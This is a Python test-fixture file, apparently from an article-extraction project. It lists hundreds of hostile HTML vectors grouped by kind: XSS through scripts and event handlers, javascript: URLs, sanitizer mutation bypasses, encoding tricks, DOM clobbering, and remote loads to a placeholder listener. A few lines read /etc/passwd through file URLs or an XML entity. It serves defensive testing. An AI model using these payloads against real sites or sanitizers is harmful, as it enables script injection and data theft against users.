"""What a hostile page tries against whoever shows it: by kind, written for this project.

RUN is a call that the test would notice, HERE the address of a listener.  A text stands in the middle
of an article, between whole paragraphs; bytes are a whole page as they are, in which ARTICLE (in
the page's own encoding) becomes such paragraphs.
"""

SCRIPTS = [
    '<script>RUN</script>',
    '<SCRIPT TYPE="text/javascript">RUN</SCRIPT\t\n bar>',
    '<script/x>RUN</script/y>',
    '<script src="HERE/s.js"></script>',
    '<script src=//HERE/s.js async defer></script>',
    '<script type=module>RUN</script><script type=module src="HERE/m.js"></script>',
    '<script type=importmap>{"imports":{"a":"HERE/m.js"}}</script><script type=module>import "a"</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["HERE/p"]}]}</script>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '<<script>RUN//<</script>',
    '<script>/*<!--*/RUN//--></script>',
    '<script><!--<script></script>RUN//--></script>',
    '<script>x="<!--<script>"</script><p>a</p><script>"</script>";RUN</script>',
    '<svg><script>RUN</script></svg>',
    '<svg><script href="HERE/s.js"/></svg>',
    '<svg><script xlink:href="data:text/javascript,RUN"></script></svg>',
    '<svg><script>&#82;UN;RUN</script></svg>',
    '<math><script>RUN</script></math>',
    '<p>one</p><script\x0c>RUN</script\x0c><p>two</p>',
    '<script>RUN',
    '</p></article></body></html><script>RUN</script>',
    '<frameset onload=RUN><frame src="javascript:RUN"></frameset>',
    '<noembed><script>RUN</script></noembed><noframes><script>RUN</script></noframes>',
]

HANDLERS = [
    '<img src=x onerror=RUN>',
    '<img src=x:x onerror="RUN" alt="a picture with a handler">',
    '<img/src=x/onerror=RUN>',
    '<img src="HERE/p.png" onload=RUN>',
    '<body onload=RUN onpageshow=RUN onhashchange=RUN onresize=RUN>',
    '<html onfocus=RUN onmouseover=RUN>',
    '<svg onload=RUN></svg><svg/onload=RUN>',
    '<input autofocus onfocus=RUN><textarea autofocus onfocus=RUN></textarea>',
    '<select autofocus onfocus=RUN><option>a</select>',
    '<details open ontoggle=RUN><summary>more of the story</summary><p>hidden words here</p></details>',
    '<video autoplay onloadstart=RUN><source src=x onerror=RUN></video>',
    '<audio src=x onerror=RUN></audio>',
    '<marquee onstart=RUN>a moving headline of words</marquee>',
    '<p onclick=RUN onmouseover=RUN ONPOINTERENTER=RUN tabindex=0 autofocus onfocus=RUN>a paragraph with handlers in it</p>',
    '<p style="animation-name:x" onanimationstart=RUN>a paragraph that is animated by a stylesheet</p><style>@keyframes x{}</style>',
    '<p style="transition:color 1ms" ontransitionend=RUN>a paragraph with a transition in it</p>',
    '<object data=x onerror=RUN></object><embed src=x onload=RUN>',
    '<iframe onload=RUN></iframe><iframe src="about:blank" onload=RUN></iframe>',
    '<link rel=stylesheet href=x onerror=RUN><style onload=RUN></style>',
    '<img src=x on error=RUN onerror\x0b=RUN onerror\x00=RUN onerror =RUN>',
    '<img src=x onerror=`RUN`><img src=x onerror=\'RUN\'><img src=x onerror="&#82;UN;RUN">',
    '<a href="https://example.org/" onfocus=RUN autofocus onauxclick=RUN>a link with handlers</a>',
    '<table background="HERE/t.png" onscroll=RUN><tr onmouseenter=RUN><td onmouseenter=RUN>one cell of many</table>',
    '<blockquote oncopy=RUN cite="javascript:RUN">a quotation of some length for the reader</blockquote>',
    '<xss onbeforescriptexecute=RUN onwebkitanimationend=RUN contenteditable onfocus=RUN autofocus>custom element</xss>',
    '<div popover id=pop onbeforetoggle=RUN>words in a popover</div><button popovertarget=pop>b</button>',
    '<p data-onload=RUN onx-y=RUN on=RUN ONERROR=RUN>a paragraph with odd names of attributes</p>',
]

ADDRESSES = [
    '<a href="javascript:RUN">a link that runs</a>',
    '<a href="JaVaScRiPt:RUN">a link that runs</a>',
    '<a href="java\tscript:RUN">a</a><a href="java\nscript:RUN">b</a><a href="java\rscript:RUN">c</a>',
    '<a href="java&#9;script:RUN">a</a><a href="java&#10;script:RUN">b</a><a href="java&#13;script:RUN">c</a>',
    '<a href="&#1;javascript:RUN">a</a><a href=" &#14;  javascript:RUN">b</a><a href="&#x1f;javascript:RUN">c</a>',
    '<a href="javascript&colon;RUN">a</a><a href="javascript&#58;RUN">b</a><a href="javascript&#x3A;RUN">c</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN">decimal entities and no semicolons</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;RUN">hexadecimal entities</a>',
    '<a href="&#0000106avascript:RUN">zeros in front of the number</a>',
    '<a href="java&NewLine;script:RUN">a</a><a href="java&Tab;script&colon;RUN">b</a>',
    '<a href="\u00a0javascript:RUN">a</a><a href="\u2003javascript:RUN">b</a><a href="\ufeffjavascript:RUN">c</a>',
    '<a href="java\x00script:RUN">a</a><a href="\x00javascript:RUN">b</a>',
    '<a href="jav\u0430script:RUN">cyrillic</a><a href="javascript\uff1aRUN">full width colon</a>',
    '<a href="javascript://example.org/%0aRUN">a</a><a href="javascript:/*https://*/RUN">b</a>',
    '<a href="view-source:javascript:RUN">a</a><a href="feed:javascript:RUN">b</a><a href="jar:javascript:RUN">c</a>',
    '<a href="data:text/html,<script>RUN</script>">a</a><a href="data:text/html;base64,PHNjcmlwdD4=">b</a>',
    '<a href="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'/>">a picture</a>',
    '<a href="vbscript:msgbox(1)">a</a><a href="livescript:RUN">b</a><a href="mocha:RUN">c</a>',
    '<a href="blob:HERE/x">a</a><a href="filesystem:HERE/x">b</a><a href="file:///etc/passwd">c</a><a href="intent://x#Intent;end">d</a>',
    '<a href="//127.0.0.1/x">protocol relative</a><a href="\\\\127.0.0.1\\x">back slashes</a><a href="https:\\\\evil.example\\x">c</a>',
    '<a xlink:href="javascript:RUN">a</a><svg><a xlink:href="javascript:RUN"><text y=20>b</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:RUN" /><text y=20>animated</text></a></svg>',
    '<svg><animate href=#x attributeName=href to=javascript:RUN></animate><a id=x><text>y</text></a></svg>',
    '<svg><set attributeName=onmouseover to=RUN></svg><svg><use href="data:image/svg+xml,<svg id=x onload=RUN/>#x"/></svg>',
    '<math href="javascript:RUN"><mi>x</mi></math><math><maction actiontype="statusline#http://x" xlink:href="javascript:RUN">x</maction></math>',
    '<form action="javascript:RUN"><input type=submit id=s><button formaction="javascript:RUN">go</button></form>',
    '<isindex action="javascript:RUN" type=image>', '<area href="javascript:RUN" shape=default><map name=m><area href="javascript:RUN"></map>',
    '<a href="https://user:pass@evil.example/" ping="HERE/ping" target=_blank rel=opener>a link that pings</a>',
    '<a href="http://example.org/&quot; onclick=&quot;RUN">a link with quotes in it</a>',
    '<a href=\'https://example.org/"><img src=x onerror=RUN>\'>quotes and brackets</a>',
    '<a href="https://example.org/\u202ecod.exe">a link turned round</a>',
    '<a href="https://example.org/%00%0d%0aSet-Cookie:x">line ends</a><a href="https://exa\x00mple.org/">a null</a>',
    '<a href="mailto:a@example.org?body=%3Cscript%3ERUN%3C/script%3E&attach=/etc/passwd">write to us</a>',
    '<a href="mimeo:javascript:RUN">a</a><a href="mimeo:&quot;&gt;&lt;img src=x onerror=RUN&gt;">b</a>',
    '<base href="javascript:/RUN//"><a href="#">based</a>', '<base href="HERE/"><img src="p.png"><a href="x">based</a>',
    '<a href="\t\n\x0c https://example.org/ok ">a good link with white space</a>',
    '<a href="?javascript:RUN">a</a><a href="./javascript:RUN">b</a><a href="javascript%3ARUN">c</a><a href=":javascript:RUN">d</a>',
]

LOADS = [
    '<img src="HERE/p.png"><img src=HERE/p.png width=1 height=1>',
    '<img srcset="HERE/1.png 1x, HERE/2.png 2x" sizes=100vw src="HERE/0.png" alt="a picture in sizes">',
    '<picture><source srcset="HERE/s.webp" type=image/webp><img src="HERE/p.png" loading=eager></picture>',
    '<figure><img data-src="HERE/lazy.jpg" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=RUN><figcaption>A caption that is long enough to be kept</figcaption></figure>',
    '<noscript><img src="HERE/n.png" onerror=RUN></noscript>',
    '<video src="HERE/v.mp4" poster="HERE/v.png" autoplay preload=auto><track src="HERE/t.vtt" default></video>',
    '<audio src="HERE/a.mp3" autoplay></audio><bgsound src="HERE/b.mid">',
    '<object data="HERE/o.swf" type="application/x-shockwave-flash"><param name=movie value="HERE/m.swf"></object>',
    '<embed src="HERE/e.pdf"><applet code="HERE/x.class" archive="HERE/x.jar"></applet>',
    '<iframe src="HERE/f.html"></iframe><iframe srcdoc="<script>RUN</script><img src=HERE/sd.png>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;" sandbox="allow-scripts"></iframe><iframe src="javascript:RUN"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="<img src=x onerror=RUN>" onload=RUN></iframe>',
    '<portal src="HERE/portal"></portal><fencedframe src="HERE/ff"></fencedframe>',
    '<link rel=stylesheet href="HERE/c.css"><link rel=preload as=image href="HERE/l.png"><link rel=prefetch href="HERE/pf">',
    '<link rel="icon" href="HERE/i.ico"><link rel=manifest href="HERE/m.json"><link rel=modulepreload href="HERE/m.js">',
    '<link rel=dns-prefetch href="//HERE"><link rel=preconnect href="HERE"><link rel=prerender href="HERE/pr">',
    '<meta http-equiv=refresh content="0;url=HERE/r"><meta http-equiv="refresh" content="0;javascript:RUN">',
    '<meta http-equiv=refresh content="0; url=data:text/html,<script>RUN</script>"><meta http-equiv=Set-Cookie content="a=b">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri HERE/csp">',
    '<style>@import "HERE/i.css"; @import url(HERE/j.css); body{background:url("HERE/b.png")}</style>',
    '<style>@font-face{font-family:x;src:url(HERE/f.woff)} p{font-family:x} li{list-style-image:url(HERE/l.png)}</style>',
    '<p style="background:url(HERE/b.png);list-style:url(HERE/c.png);cursor:url(HERE/d.cur),auto">a paragraph in a style</p>',
    '<p style="background:\\75rl(HERE/b.png);x:expression(RUN);behavior:url(HERE/x.htc);-moz-binding:url(HERE/x.xml#x)">old styles</p>',
    '<body background="HERE/bg.png"><table background="HERE/t.png"><td background="HERE/d.png">a cell of words</table>',
    '<input type=image src="HERE/in.png"><button style="background:url(HERE/bt.png)">x</button>',
    '<svg><image href="HERE/im.png" width=9 height=9 /><use href="HERE/u.svg#x"/><feImage href="HERE/fe.png"/></svg>',
    '<svg><style>@import "HERE/sv.css";</style><rect fill="url(HERE/r.svg#x)" filter="url(HERE/f.svg#x)"/></svg>',
    '<svg><foreignObject><iframe src="HERE/fo.html"></iframe><img src="HERE/fo.png"></foreignObject></svg>',
    '<math><annotation-xml encoding="application/xhtml+xml"><img src="HERE/ax.png"></annotation-xml><mglyph src="HERE/mg.png"/></math>',
    '<blockquote cite="HERE/cite">quoted from an address that nobody should ask</blockquote><q cite="HERE/q">quoted</q>',
    '<ins cite="HERE/ins">put in</ins> <del cite="HERE/del">taken out</del> <img longdesc="HERE/ld" src=x usemap="HERE/um">',
    '<xml src="HERE/x.xml" id=i></xml><div datasrc=#i datafld=c dataformatas=html></div><?xml-stylesheet href="HERE/x.css"?>',
    '<a href="https://example.org/" ping="HERE/p1 HERE/p2" attributionsrc="HERE/as" download>pings</a><img attributionsrc="HERE/as2" src=x>',
    '<html manifest="HERE/app.manifest"><head profile="HERE/profile"></head>',
    '<form action="HERE/form" method=post><input name=a value=b></form><script>document.forms[0].submit()</script>',
    '<div itemprop=image content="HERE/ip.png"><img itemprop=image src="HERE/ip2.png" alt="a picture of the harbour"></div>',
    '<amp-img src="HERE/amp.png" layout=fill></amp-img><img-lazy src="HERE/il.png"></img-lazy>',
    '<img src="HERE/a.png?\u0000"><img src="http:\\\\127.0.0.1\\b.png"><img src="http:/127.0.0.1/c.png"><img src="\thttp://127.0.0.1/d.png">',
    '<img src="file:///etc/passwd"><img src="/etc/passwd"><img src="../../../../etc/passwd" alt="not a picture">',
]

MUTATION = [
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
    '<form><math><mtext></form><form><malignmark><style></math><img src onerror=RUN>',
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=RUN">',
    '<svg><desc><title><![CDATA[</title><img src=1 onerror=RUN>]]></desc></svg>',
    '<svg><annotation-xml><foreignObject><style><!--</style><p id="--&gt;&lt;img src=\'x\' onerror=\'RUN\'&gt;">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
    '<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=RUN></svg></annotation-xml></math>',
    '<svg><foreignObject><math><mi><mglyph><svg><mtext><style><a title="</style><img src=x onerror=RUN>">',
    '<math><mi><table><tr><td><mglyph><svg><style></math><img src=x onerror=RUN></style>',
    '<svg><p><style><img src=x onerror=RUN></style></p></svg>',
    '<svg><title><style><img title="</style><img src=x onerror=RUN>">',
    '<svg><desc><noscript><img title="</noscript><img src=x onerror=RUN>"></desc></svg>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=RUN>"></style></h1>',
    '<a><svg><a><style><img title="</style><img src=x onerror=RUN>"></a></svg></a>',
    '<table><math><mtext><style><img title="</style><img src=x onerror=RUN>"></table>',
    '<select><math><mtext><style><img title="</style><img src=x onerror=RUN>"></select>',
    '<select><template><style><!--</style><a rel="--&gt;&lt;/style&gt;&lt;/template&gt;&lt;img src onerror=RUN&gt;">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=RUN>">', '<math><![CDATA[</math><img src=x onerror=RUN>]]>',
    '<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=RUN>">',
    '<svg><foreignobject><p title="</foreignobject></svg><img src=x onerror=RUN>">foreign words</p></svg>',
    '<math><mi//xlink:href="data:x,<script>RUN</script>"><mi></math>',
    '<svg><font color=red><style><img src=x onerror=RUN></style></font></svg>',
    '<svg><br><style><img src=x onerror=RUN></style></svg><math><span><style><img src=x onerror=RUN></style></span></math>',
    '<table><svg><td><style><img title="</style><img src=x onerror=RUN>"></table>',
    '<svg></svg></p></br><style></br><a title="</style><img src=x onerror=RUN>">',
    '<dl><dt><svg><desc><dd><style><img title="</style><img src=x onerror=RUN>"></dl>',
    '<math><ms><ruby><rt><style><a title="</style><img src=x onerror=RUN>"></ruby></ms></math>',
]

RAW_TEXT = [
    '<noscript><p title="</noscript><img src=x onerror=RUN>">words</p></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
    '<title><p title="</title><img src=x onerror=RUN>"></title>',
    '<style><p title="</style><img src=x onerror=RUN>"></style>',
    '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>', '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
    '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>',
    '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
    '<template><p>a</p><script>RUN</script><img src=x onerror=RUN></template>',
    '<template shadowrootmode=open><img src=x onerror=RUN><script>RUN</script></template>',
    '<div><template shadowroot=open><slot></slot><img src="HERE/sh.png"></template>words of the light tree</div>',
    '<plaintext><img src=x onerror=RUN>',
    '<textarea></textarea/><img src=x onerror=RUN>', '<title></titl<img src=x onerror=RUN>e>',
    '<script type="text/plain"></script><img src=x onerror=RUN>', '<style></style ><img src=x onerror=RUN>',
    '<noscript><style></noscript><img src=x onerror=RUN></style>', '<noscript><!--</noscript><img src=x onerror=RUN>--></noscript>',
    '<textarea><!--</textarea><img src=x onerror=RUN>-->', '<xmp><!--</xmp><img src=x onerror=RUN>--></xmp>',
    '<option><textarea></option><img title="</textarea><img src=x onerror=RUN>">',
    '<p>&lt;script&gt;RUN&lt;/script&gt; and &amp;lt;img src=x onerror=RUN&amp;gt; are words, not markup</p>',
    '<p>&#60;img src=x onerror=RUN&#62; &#x3c;svg onload=RUN&#x3e; &lt;svg/onload=RUN&gt; &ltsvg onload=RUN&gt</p>',
    '<pre>\n&lt;script&gt;RUN&lt;/script&gt;\n</pre><code>&lt;img src=x onerror=RUN&gt;</code>',
]

COMMENTS = [
    '<!--><img src=x onerror=RUN>-->', '<!---><img src=x onerror=RUN>-->', '<!-- --!><img src=x onerror=RUN>-->',
    '<!--<img src="--><img src=x onerror=RUN>">', '<!-- <!-- --> <img src=x onerror=RUN> -->',
    '<!--[if gte IE 4]><script>RUN</script><![endif]-->', '<![if !IE]><img src=x onerror=RUN><![endif]>',
    '<!--[if true]><!--><script>RUN</script><!--<![endif]-->', '<![CDATA[<img src=x onerror=RUN>]]>',
    '<![CDATA[><script>RUN</script>]]>', '<?xml version="1.0"?><?php echo "><img src=x onerror=RUN>" ?>',
    '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=RUN>">]>&x;', '</ ><img src=x onerror=RUN></ -->',
    '<! foo="><script>RUN</script>">', '<? foo="><img src=x onerror=RUN>">', '</ foo="><img src=x onerror=RUN>">',
    '<% foo><x foo="%><script>RUN</script>">', '<!-- -- > <img src=x onerror=RUN> -- >-->',
    '<!--\x00--><img src=x onerror=RUN><!--\x00-->', '<p>-->]]>--!>*/ &#45;&#45;&gt; <!-- a', '<comment><img src="</comment><img src=x onerror=RUN>">',
]

NESTING = [
    '<form><div><form><input name=x></div></form><p>the words of a form within a form</p></form>',
    '<table><tr><td><table><tr><td>inner words<td></table><form><tr><td><input></form></table>',
    '<p><table><tr><td><p>a paragraph in a cell</table>and words behind</p>',
    '<a href="https://a.example/">one<div>two<a href="https://b.example/">three</a>four</div></a>',
    '<b><p>one<i>two</b>three</i></p><em><div>four</em>five</div>',
    '<p><b><i><u><s><em><strong><p>many formats, and<p>each of them again<p>and again',
    '<h2>a heading<h3>in a heading</h2>behind</h3><p>and words of a paragraph</p>',
    '<ul><li>one<ol><li>two<p>three<li>four</ul>five</ol><li>six, and no list round it',
    '<dl><dd><dl><dt>deep<p></dl><dd>and on</dl><dt>a term without its list',
    '<table><p>not in a cell<tr>nor here<td>here<caption>late</caption><tbody><th>head</table>',
    '<table><a href="https://a.example/">fostered<tr><td>cell</a></table>',
    '<ruby>base<rt>text<rtc>more<rt>yet more<rp>)</ruby><nobr>one<nobr>two</nobr></nobr>',
    '<button><p>in a button<button>in another</button></p></button><label>label<label>in label</label></label>',
    '<select><option><p>words<select>more<input></select><optgroup>group</select>',
    '<p></p></p></p><br></br></br><hr></hr><img></img><wbr></wbr></section></article>',
    '<blockquote><p>a quote<blockquote><figure><blockquote>within</figure></p></blockquote>',
    '<figure><figcaption>a caption alone<figure><figcaption>another</figure></figure><details><p>open<summary>late</summary></details>',
    '<pre>\n\n two lines<pre>in a pre</pre>\n</pre><textarea>\n\nx</textarea><listing>\nx</listing>',
    '<table><tr><td><pre>\n\ncell in pre</pre><td><ul><li><table><tr><td>table in a list</table></ul></table>',
    '<col><colgroup><tr><td><body><head><html><frame><tbody>things out of their places',
    '<bdo dir=rtl>turned<p dir=ltr>back<bdi>and<bdo dir=ltr>again</p></bdo>', '<sub><sup><sub><sup><p>small and smaller</sub></sup>',
    '<center><font size=7><tt><big><strike><acronym title=a>old elements</acronym></strike></big></tt></font></center>',
    '<dialog open>a dialogue of words</dialog><menu><li>a menu entry</menu><search><input></search><hgroup><h1>a<h2>b</hgroup>',
]

CLOBBERING = [
    '<p id=getElementById name=cookie class=body>names of the document\'s own</p>',
    '<img name=getElementById><form name=body><input name=parentNode><input name=attributes><input name=innerHTML></form>',
    '<a id=defaultView><a id=defaultView name=ethereum href="javascript:RUN">two of one name</a>',
    '<form id=x><output name=y>words</output></form><iframe name=self srcdoc="<a id=x href=HERE>"></iframe>',
    '<h2 id="mimeoRan">a heading with a name</h2><ol id=__proto__><li id=constructor>an item</ol>',
    '<section is=x-evil slot=y part=z exportparts=a nonce=b integrity=c>words in custom parts</section>',
    '<p contenteditable=true draggable=true spellcheck autocapitalize=on inputmode=text accesskey=x>editable words</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:white">a paragraph over all</p>',
    '<p hidden aria-hidden=true inert role=alert aria-live=assertive>an announcement nobody should hear</p>',
    '<p xmlns="http://www.w3.org/2000/svg" xml:base="HERE/" xml:lang="x&quot; onclick=&quot;RUN">namespaces in attributes</p>',
    '<p lang="&quot; onmouseover=&quot;RUN" dir="&quot;&gt;&lt;img src=x onerror=RUN&gt;" title="`onmouseover=RUN`">values with quotes</p>',
    '<td colspan="2 onload=RUN" rowspan="1e9" headers="x&quot;">a cell</td><ol start="1&quot; onload=&quot;RUN" type="a"><li value="&gt;">x</ol>',
    '<time datetime="2026-01-01&quot; onclick=&quot;RUN">today</time><img alt="&quot;&gt;&lt;script&gt;RUN&lt;/script&gt;" src=x>',
    '<img alt=\'"><script>RUN</script>\' src="HERE/p.png" width="1&quot; onload=&quot;RUN" height=\'"onerror=RUN\'>',
]

UNCLOSED = [
    '<img src=x onerror=RUN', '<img src="x" onerror="RUN', '<p title="unclosed><img src=x onerror=RUN>',
    '<a href="https://example.org/><script>RUN</script>', "<a href='HERE/?<p>swallows what is behind it",
    '<img src=\'HERE/?', '<textarea><p>swallows', '<style>p{background:url(HERE/', '<button><select><option>', '<svg><style>',
    '<img """><script>RUN</script>">', '<img \'\'\'><script>RUN</script>\'>', '<p a=b"c=\'d>e"f=\'g onclick=RUN>words',
    '<p/onclick=RUN/title=x>words with slashes</p>', '<p =onclick=RUN>words</p>', '<p <img src=x onerror=RUN>>words</p>',
    '<\x00script>RUN</script>', '<s\x00cript>RUN</s\x00cript>', '<script\x00>RUN</script>', '<img src=x one\x00rror=RUN>',
    '<img\x00src=x\x00onerror=RUN>', '<\u0131mg src=x onerror=RUN><\u017fcript>RUN</\u017fcript><\u212aeygen autofocus onfocus=RUN>',
    '\uff1cscript\uff1eRUN\uff1c/script\uff1e \u2039img src=x onerror=RUN\u203a', '&lt;' * 40 + 'script>RUN', '<' * 300 + 'img src=x onerror=RUN>',
    '<img src=x onerror=RUN ' + 'a ' * 600 + '>', '<p ' + 'x=y ' * 100 + 'onclick=RUN>many attributes</p>',
]

ARTICLE = ("<p>The harbour council met on Tuesday to decide whether the old lighthouse should be repaired or left "
           "to the weather, and heard eleven speakers from the town.</p><p>Most of them asked for the repair, which "
           "would cost about as much as the new bus shelter, and would be finished before winter.</p>")


def _whole(head, body, encoding="utf-8", declared=None, bom=b"", raw=None):
    meta = f'<meta charset="{declared}">' if declared else ""
    page = f"<!DOCTYPE html><html><head>{meta}{head}<title>A hostile page about the harbour</title></head><body><article>" \
           f"<h1>A hostile page about the harbour</h1>{ARTICLE}{body}{ARTICLE}</article></body></html>"
    return bom + (page.encode(encoding) if raw is None else page.encode(encoding).replace(b"INSERT", raw))


PAGES = [
    _whole("", "+ADw-script+AD4-RUN+ADw-/script+AD4-", declared="utf-7"),
    _whole("", "+ADw-script+AD4-RUN+ADw-/script+AD4-", bom=b"+/v8-"),
    _whole("", "<script>RUN</script>", "utf-16-le", bom=b"\xff\xfe"),
    _whole("", "<script>RUN</script>", "utf-16-be", bom=b"\xfe\xff"),
    _whole("", "<script>RUN</script>", "utf-16-le"),
    _whole("", "<script>RUN</script>", "utf-16-be", declared="utf-8"),
    _whole("", "<img src=x onerror=RUN>", "utf-32-le", bom=b"\xff\xfe\x00\x00"),
    _whole("", "INSERT", raw=b"\xc0\xbcscript\xc0\xbeRUN\xc0\xbc/script\xc0\xbe"),
    _whole("", "INSERT", raw=b"\xe0\x80\xbcimg src=x onerror=RUN\xe0\x80\xbe \xf0\x80\x80\xbcimg src=x onerror=RUN>"),
    _whole("", "INSERT", raw=b"<p title=\"\xc3\"><img src=x onerror=RUN>\">a lead byte swallows the quote</p>"),
    _whole("", "INSERT", declared="shift_jis", raw=b"<p title=\"\x81\" x=\"><img src=x onerror=RUN>\">half a character</p>"),
    _whole("", "INSERT", declared="gbk", raw=b"<p title=\"\x81\" onclick=\"RUN\">half a character</p>"),
    _whole("", "INSERT", declared="big5", raw=b"<a href=\"\xa3\"https://x\" onclick=RUN>half</a>"),
    _whole("", "INSERT", declared="iso-2022-jp", raw=b"\x1b$B\x1b(B<img src=x onerror=RUN>\x1b$B<script>RUN</script>\x1b(B"),
    _whole("", "INSERT", declared="euc-kr", raw=b"\xa1<script>RUN</script>\xfe\xfe<img src=x onerror=RUN>"),
    _whole("", "INSERT", declared="hz-gb-2312", raw=b"~{<script>RUN</script>~}"),
    _whole("", "INSERT", declared="x-user-defined", raw=b"\xbcscript\xbeRUN\xbc/script\xbe"),
    _whole("", "INSERT", declared="us-ascii", raw=b"\xbcscript\xbeRUN\xbc/script\xbe"),
    _whole("", "INSERT", declared="windows-1252", raw=b"<img src=x onerror=RUN>\x8b\x9b\xa0\xad"),
    _whole('<meta property="og:title" content="<script>RUN</script>"><meta property="og:image" content="javascript:RUN">', "<p>words</p>"),
    _whole('<meta property="og:image" content="HERE/og.png"><meta name="twitter:image" content="HERE/tw.png">', "<p>words</p>"),
    _whole('<link rel=canonical href="javascript:RUN"><meta property="og:url" content="data:text/html,x">', '<a href="x">relative</a>'),
    _whole('<base href="javascript:RUN//">', '<a href="x">relative</a><img src="y">'),
    _whole('<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>RUN</script>","image":"HERE/ld.png"}</script>', ""),
    _whole('<script type="application/ld+json">{"@type":"NewsArticle","headline":"\\u003cimg src=x onerror=RUN\\u003e",'
           '"articleBody":"<img src=x onerror=RUN>","author":{"name":"<svg onload=RUN>"},"image":["javascript:RUN"]}</script>', ""),
    b"\x00" * 20 + _whole("", "<script>RUN</script>"),
    _whole("", "<script>RUN</script>").replace(b"<", b"<\x00"),
    _whole("", "<script>RUN</script>").replace(b"\n", b"\x85") + b"\x1a<script>RUN</script>",
    b"<html><body><article>" + ARTICLE.encode() + b"</article></body></html>" + b"<script>RUN</script>" * 3 + ARTICLE.encode(),
    b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><html xmlns='http://www.w3.org/1999/xhtml'><body>"
    + ARTICLE.encode() + b"<p>&x;</p><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script></body></html>",
]

KINDS = {"scripts": SCRIPTS, "handlers": HANDLERS, "addresses": ADDRESSES, "loads": LOADS, "mutation": MUTATION,
         "raw text": RAW_TEXT, "comments": COMMENTS, "nesting": NESTING, "clobbering": CLOBBERING,
         "unclosed": UNCLOSED, "whole pages": PAGES}


def pages(run, here):
    """(kind, number, page) of each, `run` and `here` put in."""
    def fill(page):
        for word, value in (("RUN", run), ("HERE", here)):
            page = page.replace(word, value) if isinstance(page, str) else \
                page.replace(word.encode(), value.encode()).replace(word.encode("utf-16-le"), value.encode("utf-16-le")) \
                    .replace(word.encode("utf-16-be"), value.encode("utf-16-be")).replace(word.encode("utf-32-le"), value.encode("utf-32-le"))
        return page
    for kind, vectors in KINDS.items():
        for number, vector in enumerate(vectors, 1):
            if isinstance(vector, str):
                vector = _whole("", vector, "utf-8", "utf-8")
            yield kind, number, fill(vector)
